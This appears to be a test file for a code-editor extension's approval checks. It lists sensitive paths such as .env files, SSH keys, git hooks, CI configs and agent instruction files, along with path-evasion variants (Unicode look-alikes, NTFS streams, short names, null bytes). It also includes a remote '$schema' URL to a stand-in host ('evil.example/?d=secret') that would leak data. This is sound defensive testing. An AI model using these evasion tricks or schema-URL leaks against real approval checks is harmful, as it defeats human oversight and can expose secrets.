import assert from "node:assert/strict";
import { mkdir, mkdtemp, realpath, rm, symlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { gainsRemoteSchema, isSensitiveEdit } from "../../../src/extension/approvals/editSensitivity.ts";
import { isSensitivePath } from "../../../src/extension/approvals/sensitive.ts";

describe("sensitive paths", () => {
  const sensitive = [
    ".vscode/settings.json",
    "web/.vscode/tasks.json",
    "shop.code-workspace",
    ".git/hooks/pre-commit",
    ".git/config",
    ".husky/pre-push",
    ".env",
    "server/.env.local",
    ".bashrc",
    "home/.zshenv",
    "keys/server.pem",
    ".ssh/config",
    "id_ed25519",
    "AGENTS.md",
    "docs/agents.md",
    ".github/copilot-instructions.md",
    ".claude/agents/x.md",
    "review.agent.md",
    "skills/a/SKILL.md",
    ".mcp.json",
    ".npmrc",
    "package.json",
    "web/package.json",
    "eslint.config.js",
    "web/vite.config.mts",
    ".eslintrc.cjs",
    "tests/conftest.py",
    "setup.py",
    "build.rs",
    "Makefile",
    "build.gradle.kts",
    ".github/workflows/ci.yml",
    ".github/actions/setup/action.yml",
    ".GitHub/Workflows/ci.yml",
    ".gitlab-ci.yml",
    ".circleci/config.yml",
    ".devcontainer.json",
    "CLAUDE.local.md",
    "mirror.git/config",
    ".devcontainer/devcontainer.json",
    "GIT~1/config",
    ".Git/config",
    ".env.",
    ".env ",
    ".env::$DATA",
    ".vs\u200Bcode/settings.json",
    "a\\.vscode\\settings.json",
    "AGENTS.md.",
    ...["./.env", "a/../.env", ".//.env", ".env/", ".env/.", "ENV~1", ".\uff45nv", ".v\u017fcode/settings.json"],
    ...[
      "PAC\u212aAGE.json",
      "src\\..\\.env",
      "C:\\ws\\.env",
      ".env\u0000",
      "\u202e.env",
      ".git./config",
      "VSCODE~1/a.json",
    ],
    ...[
      "Dockerfile",
      "compose.yaml",
      "Jenkinsfile",
      ".pre-commit-config.yaml",
      "lefthook.yml",
      "Cargo.toml",
      "pom.xml",
    ],
    ...[
      "gradlew",
      "sitecustomize.py",
      "x.csproj",
      ".envrc",
      "flake.nix",
      ".gitattributes",
      "go.work",
      "CMakeLists.txt",
    ],
    ...[
      "QWEN.md",
      ".kiro/steering/a.md",
      ".goosehints",
      "opencode.json",
      ".github/prompts/a.md",
      "node_modules/a/b.js",
    ],
    ...[
      ".config/gh/hosts.yml",
      "terraform.tfstate",
      "kubeconfig",
      ".cargo/credentials.toml",
      ".bash_history",
      "a.ovpn",
    ],
    ...["github_token", ".github-token", "api_key.txt", "config/openai.token", ".openai/key", "deploy_rsa", ".apikeys"],
    ...["gcp-service-account-key.json", "vault-password.txt", "key.properties", ".sentryclirc"],
    ...["go.mod", "manage.py", "Pipfile", "x.cabal", "knexfile.ts", "debian/rules", "PKGBUILD", "artisan"],
  ];
  for (const path of sensitive) {
    it(`count ${JSON.stringify(path)}`, () => assert.equal(isSensitivePath(path), true));
  }

  for (const path of [
    "src/git.ts",
    "src/config.ts",
    "package.ts",
    "docs/package.json.md",
    "app/workflows/a.yml",
    ".github/CODEOWNERS",
    "src/environment.ts",
    "docs/agents/list.md",
    "vscode.ts",
    ".gitignore",
    "key.ts",
    ...["src/credentials/index.ts", "lib/secrets.ts", "styles/tokens.css", "app/tasks.py", "src/startup/index.ts"],
    ...[
      "tsconfig.json",
      "requirements.txt",
      "a~1.txt",
      ".env.example",
      "src/api-key.ts",
      "src/tokens.go",
      "src/auth/token.rs",
      "scripts/deploy.sh",
      "src/keys.ts",
      "main.go",
    ],
  ]) {
    it(`leave ${path} alone`, () => assert.equal(isSensitivePath(path), false));
  }
});

describe("an edit through a link", () => {
  let root: string;
  before(async () => {
    root = await realpath(await mkdtemp(join(tmpdir(), "arbor-links-")));
    await mkdir(join(root, ".vscode"));
    await mkdir(join(root, "src"));
    await writeFile(join(root, "src/a.ts"), "");
    await symlink(join(root, ".vscode"), join(root, "docs"));
  });
  after(() => rm(root, { recursive: true }));

  it("is judged by where it leads, also for a file that does not exist yet", async () => {
    assert.equal(await isSensitiveEdit("docs/tasks.json", { root, relative: "docs/tasks.json" }), true);
    assert.equal(await isSensitiveEdit("docs/new/deep.json", { root, relative: "docs/new/deep.json" }), true);
    assert.equal(await isSensitiveEdit("src/a.ts", { root, relative: "src/a.ts" }), false);
    assert.equal(await isSensitiveEdit("src/new/b.ts", { root, relative: "src/new/b.ts" }), false);
  });

  it("17 is one that comes to name a schema on the web, which editors fetch", () => {
    const json = (address: string) => JSON.stringify({ $schema: address, a: 1 });
    const web = json("https://evil.example/?d=secret");
    for (const after of [
      web,
      web.replace("$", "\\u0024"),
      web.replaceAll("/", "\\/"),
      json("//evil.example/x"),
      "# yaml-language-server: $schema=https://evil.example/x\na: 1\n",
    ]) {
      assert.equal(gainsRemoteSchema("{}", after), true, after);
      assert.equal(gainsRemoteSchema(undefined, after), true, after);
      assert.equal(gainsRemoteSchema(after, `${after}\n`), false, after);
    }
    assert.equal(gainsRemoteSchema(web, json("https://other.example/")), true);
    assert.equal(gainsRemoteSchema("{}", json("./schema.json")), false);
    assert.equal(gainsRemoteSchema("{}", undefined), false);
  });

  it("does not take the workspace's own folder for a part of the path", async () => {
    const inner = join(root, ".vscode");
    assert.equal(await isSensitiveEdit("a.ts", { root: inner, relative: "a.ts" }), false);
  });
});
